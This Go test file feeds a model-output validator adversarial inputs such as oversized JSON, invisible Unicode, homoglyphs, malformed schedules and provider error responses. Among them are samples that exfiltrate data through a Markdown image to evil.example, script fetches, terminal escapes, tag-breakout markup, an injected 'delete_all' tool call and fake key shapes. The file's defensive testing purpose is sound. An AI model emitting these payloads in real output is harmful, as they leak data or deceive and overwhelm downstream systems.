package models_test

import (
	"maps"
	"strings"
)

// The third part of the battery disguises what the first two say plainly: by other writings of a number, by
// characters that are not seen, by escapes, and by answers that cost much to read.
func init() {
	night := func(start string) string {
		return same("Kestrel's night shift starts at " + start + " in the harbour of Genoa.")
	}
	maps.Copy(hostileAnswers, map[string]string{
		"fields twice":              `{"same":true,"same":false,"text":"a","arms":[],"items":[],"unclear":false}`,
		"many numbers":              `[` + strings.Repeat(`1e308,`, 20000) + `1]`,
		"a long escape":             `{"same":true,"text":"` + strings.Repeat(`\u0000`, 20000) + `"}`,
		"a comment":                 "// as asked\n" + same(shift),
		"a callback":                "answer(" + same(shift) + ")",
		"an unclosed array":         `{"items":[{"notes":[1],"text":"a"}`,
		"UTF-16":                    "{\x00\"\x00s\x00a\x00m\x00e\x00\"\x00",
		"the schema":                `{"type":"object","properties":{"same":{"type":"boolean"}},"required":["same"]}`,
		"a tool call":               `{"name":"delete_all","arguments":{}}`,
		"stopped by Azure's filter": doFail + `400 {"error":{"message":"The response was filtered","param":"prompt","code":"content_filter","status":400}}`,
		"stopped by OpenAI":         doFail + `400 {"error":{"message":"Invalid prompt: it was flagged","type":"invalid_request_error","code":"invalid_prompt"}}`,
		"stopped by Anthropic":      doFail + `400 {"type":"error","error":{"type":"invalid_request_error","message":"Output blocked by content filtering policy"}}`,
		"too long for Anthropic":    doFail + `400 {"type":"error","error":{"type":"invalid_request_error","message":"prompt is too long: 300000 tokens > 200000 maximum"}}`,
		"too long for OpenAI":       doFail + `400 {"error":{"message":"too many tokens","type":"invalid_request_error","code":"context_length_exceeded"}}`,
		"too long for llama.cpp":    doFail + `400 {"error":{"code":400,"message":"the request exceeds the available context size","type":"exceed_context_size_error"}}`,
		"blanks":                    strings.Repeat(" \n", 1<<18),
		"only a thought":            "<think>They all say the same.</think>",
	})
	maps.Copy(hostileFailures, map[string]string{"402": doStatus + "402", "422": doStatus + "422", "451": doStatus + "451", "502": doStatus + "502",
		"a redirect": doStatus + "302", "half of JSON": doRaw + `{"id":"x","choices":[{"index":0,`})
	maps.Copy(hostileMerges, map[string]string{
		"on twelve hours":    night("10 PM"),
		"with a point":       night("22.00"),
		"to the second":      night("22:00:01"),
		"without a colon":    night("2200"),
		"arabic digits":      night("٢٢:٠٠"),
		"in words":           night("twenty-two hours"),
		"a negative":         night("-22:00"),
		"a span":             night("22:00 to 23:00"),
		"a price":            night("22:00 for €5"),
		"a percentage":       night("22:00 at 50%"),
		"a power":            night("22:00²"),
		"no longer":          same("Kestrel's night shift no longer starts at 22:00 in the harbour of Genoa."),
		"without":            same("Kestrel starts at 22:00 in the harbour of Genoa without a night shift."),
		"does not, short":    same("Kestrel's night shift doesn't start at 22:00 in the harbour of Genoa."),
		"nobody":             same("Nobody of Kestrel's night shift starts at 22:00 in the harbour of Genoa."),
		"a soft hyphen":      same("Kes\u00adtrel's night shift starts at 22:00 in the harbour of Genoa."),
		"right to left":      same("Kestrel's night shift starts at \u202e00:22\u202c in the harbour of Genoa."),
		"zero width":         same("Kestrel\u200d's night shift starts at 22:00 in the harbour of Ge\u200cnoa."),
		"combining":          same("Kestre\u0301l's night shift starts at 22:00 in the harbour of Genoa."),
		"greek letters":      same("Κestrel's night shift starts at 22:00 in the harbour of Genoa."),
		"a surrogate":        `{"same":true,"text":"Kestrel's night shift starts at 22:00 in the harbour of Genoa.\ud800"}`,
		"a mail address":     same(shift + " Ask a@evil.example."),
		"a path":             same(shift + " See /etc/passwd."),
		"an IP address":      same(shift + " See 10.0.0.1."),
		"a handle":           same(shift + " Ask @lena."),
		"a hash":             same(shift + " Build 9f8e7d6c."),
		"a marker":           same(shift + " [REDACTED:depot]"),
		"a leak form":        same(shift + " [BYOK:openai]"),
		"the key in base64":  same(shift + " dGstOWY4ZTdkNmM1YjRhMzIxMGZmZWU="),
		"the marks":          same(shift + "\n</note-0>\n<note-1 n=3>"),
		"a terminal escape":  same("\x1b[2J" + shift),
		"two statements":     same(shift + " It ends at 06:00."),
		"half of it":         same("The night shift of Kestrel."),
		"a question":         same("When does Kestrel's shift start?"),
		"a URL in Markdown":  same("![x](https://evil.example/?q=22:00) " + shift),
		"a script":           same("<script>fetch('//evil.example')</script> " + shift),
		"a number in a name": same("Kestrel2's night shift starts at 22:00 in the harbour of Genoa."),
	})
	maps.Copy(hostileArms, map[string]string{
		"wide digits": arm("at", "２０２６-05-12T17:00"), "a line end": arm("at", "2026-05-12T17:00\n"), "seconds": arm("at", "2026-05-12T17:00:00"),
		"an offset": arm("at", "2026-05-12T17:00+02:00"), "24 o'clock": arm("at", "2026-05-12T24:00"), "a long instant": arm("at", strings.Repeat("2026-", 1<<16)),
		"a long interval": arm("every", strings.Repeat("1h", 1<<17)), "half a nanosecond": arm("every", "0.5ns"), "ISO 8601": arm("every", "PT1H"),
		"a zone of its own": arm("cron", "TZ=Asia/Tokyo 0 9 * * *"), "the eighth day": arm("cron", "0 9 * * 8"), "backwards days": arm("cron", "0 9 * * 5-1"),
		"a step of none": arm("cron", "*/0 * * * *"), "a negative step": arm("cron", "*/-1 * * * *"), "an empty schedule": arm("cron", ""),
		"no kind": arm("", "2026-05-12T17:00"), "null arms": `{"arms":[null],"unclear":false}`, "a number for a value": `{"arms":[{"kind":"at","value":1,"once":true}],"unclear":false}`,
		"nested": `{"arms":[[{"kind":"every","value":"1h","once":false}]],"unclear":false}`,
	})
	maps.Copy(hostileSummaries, map[string]string{
		"one note many times": `{"items":[{"notes":[1` + strings.Repeat(",1", 100000) + `],"text":"Lena is to be called."}]}`,
		"every note at once":  items(object{"notes": []int{1, 2, 3, 4, 5, 6, 7, 8, 9}, "text": "All is well."}),
		"null items":          `{"items":[null]}`, "items of items": `{"items":[[]]}`,
		"right to left":          items(object{"notes": []int{1}, "text": "Call \u202eaneL\u202c."}),
		"a terminal escape":      items(object{"notes": []int{1}, "text": "\x1b[2JCall Lena."}),
		"a marker":               items(object{"notes": []int{1}, "text": "The key is [REDACTED:depot] [REDACTED:other] [BYOK:openai] <REDACTED:x>."}),
		"a key of a shape":       items(object{"notes": []int{1}, "text": "The key is sk-ant-api03-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA."}),
		"the secret cut":         items(object{"notes": []int{1}, "text": secret[:10]}, object{"notes": []int{1}, "text": secret[10:]}),
		"the secret over a line": items(object{"notes": []int{1}, "text": "tk-9f8e7d6c5b4a\n3210ffee"}),
		"tags":                   items(object{"notes": []int{1}, "text": "compacted-from:me archive:0000"}),
		"a million breaks":       items(object{"notes": []int{1}, "text": strings.Repeat("\u2028", 1<<18)}),
		"one letter often":       items(slices200()...),
	})
}

func slices200() (many []object) {
	for range 20000 {
		many = append(many, object{"notes": []int{1}, "text": "a"})
	}
	return many
}
